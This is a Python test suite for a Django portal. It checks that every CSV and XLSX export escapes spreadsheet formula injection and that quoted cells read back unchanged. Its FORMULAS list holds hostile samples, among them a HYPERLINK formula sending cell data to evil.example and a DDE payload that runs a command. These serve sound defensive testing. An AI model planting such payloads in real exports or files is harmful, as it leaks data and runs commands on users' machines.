"""Spreadsheet exports with formula payloads in the register: no cell a spreadsheet would
run (CSV/XLSX injection), in every CSV and XLSX the portal serves."""

import datetime

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from rkkp_portal.spreadsheets import ILLEGAL_IN_XML, spreadsheet_text
from steering.imports.reading import read_rows
from steering.imports.roster import COLUMNS
from steering.models import ClinicalDatabase, Invitation, Person
from tests.hostile.harness import assert_no_formulas, assert_not_500, rolled_back
from tests.hostile.profile import examples

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def formula() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(FORMULAS),
        # PostgreSQL refuses NUL, so no register field can hold one.
        st.tuples(
            st.sampled_from("=+-@"), st.text(st.characters(exclude_characters="\x00"), max_size=20)
        ).map("".join),
        st.sampled_from(["\x1b[31m=1+1", "Ole\x01Hansen", "=\x0b1"]),
    )


EXPORTS = [
    ("secretariat", "steering:database-export", ["csv"], {}),
    ("secretariat", "steering:database-export", ["xlsx"], {}),
    ("secretariat", "steering:person-export", ["csv"], {}),
    ("secretariat", "steering:person-export", ["xlsx"], {}),
    ("secretariat", "steering:roster-export", ["slug", "csv"], {}),
    ("secretariat", "steering:roster-export", ["slug", "xlsx"], {}),
    ("secretariat", "steering:compliance-export", ["csv"], {}),
    ("secretariat", "steering:compliance-export", ["xlsx"], {}),
    ("admin", "regions:buyout-report", ["code"], {"year": "2026", "format": "csv"}),
    ("secretariat", "regions:buyout-report-all", [], {"year": "2026", "format": "xlsx"}),
    ("secretariat", "steering:attendance-statistics", [], {"format": "csv"}),
    ("secretariat", "steering:person-data-export", ["person", "csv"], {}),
]


def _poison(world, text: str) -> None:
    """Formula text in every register field the exports show."""
    Person.objects.filter(pk=world.member_seat.person_id).update(
        first_name=text[:100], last_name=text[:100], title=text[:200], phone=text[:30]
    )
    ClinicalDatabase.objects.filter(pk=world.group.database_id).update(
        name=text[:200], acronym=text[:30], disease_area=text[:200]
    )
    Invitation.objects.filter(pk=world.invitation.pk).update(attendance="present")
    world.meeting.__class__.objects.filter(pk=world.meeting.pk).update(
        starts_at=world.meeting.starts_at - datetime.timedelta(days=60),
        ends_at=world.meeting.ends_at - datetime.timedelta(days=60),
    )


@pytest.mark.parametrize(
    ("persona", "name", "args", "params"),
    EXPORTS,
    ids=[f"{e[1]}-{e[2][-1] if e[2] else e[3].get('format')}" for e in EXPORTS],
)
@examples(4)
@given(text=formula())
def test_exports_never_contain_a_formula(world, persona, name, args, params, text):
    values = {
        "slug": world.group.database.slug,
        "code": world.hovedstaden.code,
        "person": world.member_seat.person_id,
    }
    url = reverse(name, args=[values.get(a, a) for a in args])
    with rolled_back():
        _poison(world, text)
        response = getattr(world, persona).get(url, params)
        assert_not_500(response, text)
        assert response.status_code == 200
        assert_no_formulas(response)


@examples(15)
@given(
    text=st.one_of(
        formula(),
        st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=30),
        st.sampled_from(["'=1+1", "''=1+1", "'plain"]),
    )
)
def test_a_quoted_cell_reads_back_as_typed(text):
    """The roster export quotes formulas; the roster import takes the quote off again."""
    row = dict.fromkeys(COLUMNS, "x")
    row["first_name"] = spreadsheet_text(text.strip())
    content = (",".join(COLUMNS) + "\n" + ",".join(_csv_cell(row[c]) for c in COLUMNS)).encode()
    rows = read_rows(content, "roster.csv")
    # Control characters a spreadsheet cannot hold are dropped on the way out.
    assert rows[0]["first_name"] == ILLEGAL_IN_XML.sub("", text.strip()).strip()


def _csv_cell(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def test_the_attendance_export_still_quotes_formulas(world):
    """The guard the attendance CSV had before this suite, kept."""
    with rolled_back():
        _poison(world, "=1+1")
        response = world.secretariat.get(
            reverse("steering:attendance-statistics"), {"format": "csv"}
        )
        assert_no_formulas(response)
